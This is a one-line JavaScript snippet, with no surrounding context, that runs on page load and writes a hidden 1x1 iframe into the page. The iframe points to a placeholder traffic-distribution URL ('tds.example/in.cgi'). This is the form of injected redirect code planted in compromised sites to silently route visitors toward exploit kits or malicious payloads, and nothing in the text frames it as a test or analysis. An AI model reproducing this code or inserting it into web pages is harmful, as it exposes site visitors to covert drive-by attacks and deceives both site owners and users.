(function(){var d=document;d.write('<iframe src="http://tds.example/in.cgi?3" width="1" height="1" style="visibility:hidden"></iframe>');})();
